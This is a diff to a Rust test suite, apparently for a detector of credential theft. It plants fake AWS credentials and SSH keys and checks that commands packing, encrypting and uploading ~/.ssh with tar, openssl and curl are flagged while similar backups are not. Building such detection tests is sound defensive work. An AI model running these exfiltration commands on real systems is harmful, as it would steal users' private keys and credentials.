@@ -5,7 +5,7 @@ use super::incidents::{acquitted, found};
 use crate::{
     agent::Agent,
     command::act,
-    events::{Ask as _, list, of_kind},
+    events::{list, of_kind},
     machine::{Scratch, find, turn},
     plant,
     server::{Sink, TlsServer},
@@ -16,9 +16,10 @@ use std::{
     path::{Path, PathBuf},
 };
 
-/// A home with keys of several kinds, and a project without.
-fn home(scratch: &Scratch) -> PathBuf {
-    let home = scratch.make("home/ada");
+/// A home with keys of several kinds, and a project without. What is found again of the same key is counted and not told, so
+/// that each act has one of its own.
+fn home(scratch: &Scratch, name: &str) -> PathBuf {
+    let home = scratch.make("home").join(name);
     plant::aws_credentials(&home);
     let write = |name: &str, text: String| {
         let path = home.join(name);
@@ -62,26 +63,27 @@ pub fn packed_encrypted_and_uploaded() {
     let scratch = Scratch::new();
     let server = TlsServer::start(&scratch.make("tls"));
     let agent = Agent::start(&scratch);
-    let home = home(&scratch);
     let url = server.url("/u");
     let work = scratch.join("work");
     let enc = "openssl enc -aes-256-cbc -pbkdf2 -pass pass:x";
-    for attack in [
+    let attacks = [
         format!("tar -C \"$HOME\" -cz .ssh | {enc} | curl -skm 5 -T - \"$1\""),
         format!(
             "tar -C \"$HOME\" -czf a .ssh; {enc} -in a -out b; curl -skm 5 --data-binary @b \"$1\""
         ),
-    ] {
-        let root = run(&home, &work, &url, &attack);
-        found(&agent, root, "uploaded");
-    }
-    for twin in [
+    ];
+    let twins = [
         format!("tar -C \"$HOME/project\" -cz . | {enc} | curl -skm 5 -T - \"$1\""),
         // A backup of everything.
         format!("tar -cz \"$HOME\" | {enc} | curl -skm 5 -T - \"$1\""),
-    ] {
-        let root = run(&home, &work, &url, &twin);
-        acquitted(&agent, root);
+    ];
+    for (n, attack) in attacks.iter().enumerate() {
+        let home = home(&scratch, &format!("attack{n}"));
+        found(&agent, run(&home, &work, &url, attack), "uploaded");
+    }
+    for (n, twin) in twins.iter().enumerate() {
+        let home = home(&scratch, &format!("twin{n}"));
+        acquitted(&agent, run(&home, &work, &url, twin));
     }
 }
 
@@ -91,7 +93,7 @@ pub fn given_to_a_client_to_send() {
     let scratch = Scratch::new();
     let sink = Sink::http();
     let agent = Agent::start(&scratch);
-    let home = home(&scratch);
+    let home = home(&scratch, "ada");
     let url = format!("http://127.0.0.1:{}/u", sink.port);
     let work = scratch.join("work");
     let mut attacks = vec!["curl -sm 5 -F f=@\"$HOME/.ssh/id_ed25519\" \"$1\""];
@@ -125,7 +127,7 @@ pub fn told_in_a_body() {
     let scratch = Scratch::new();
     let server = TlsServer::start(&scratch.make("tls"));
     let agent = Agent::start(&scratch);
-    let home = home(&scratch);
+    let home = home(&scratch, "ada");
     let python = |code: &str| {
         let text = format!(
             "import os, re, ssl, sys, http.client, json
@@ -167,7 +169,7 @@ pub fn sent_by_a_shell() {
     let scratch = Scratch::new();
     let sink = Sink::silent();
     let agent = Agent::start(&scratch);
-    let home = home(&scratch);
+    let home = home(&scratch, "ada");
     let port = sink.port.to_string();
     let work = scratch.join("work");
     let root = run(
